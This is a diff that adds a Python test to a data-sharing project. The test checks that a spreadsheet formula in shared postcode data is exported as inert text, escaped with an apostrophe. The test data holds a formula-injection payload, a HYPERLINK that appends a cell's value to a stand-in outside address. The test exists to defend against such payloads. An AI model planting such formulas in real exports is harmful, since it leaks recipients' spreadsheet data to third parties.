@@ -156,3 +156,12 @@ def test_with_geometry_level_everywhere_it_is_the_overlay_worked_out_by_others(c
         sum(row[4] == f"{float(one['nearest_distance_m']):.1f}" for row, one in zip(rows, expected, strict=True))
         >= 1_690
     )
+
+
+def test_a_reference_that_a_spreadsheet_would_run_is_made_harmless_on_a_partners_desk(postcodes, tmp_path):
+    formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"A1")'
+    publish(ROTHERHAM, square(formula), to=SHEFFIELD, level=Share.Level.GEOMETRY)
+    rows, _ = screen(tmp_path, "S60 1AA", "S60 1AB")
+    assert [row["inside_refs"] for row in rows] == [f"'{formula}", ""]
+    assert [row["nearest_ref"] for row in rows] == ["", f"'{formula}"]
+    assert {row["within_refs"] for row in rows} == {f"'{formula}"}
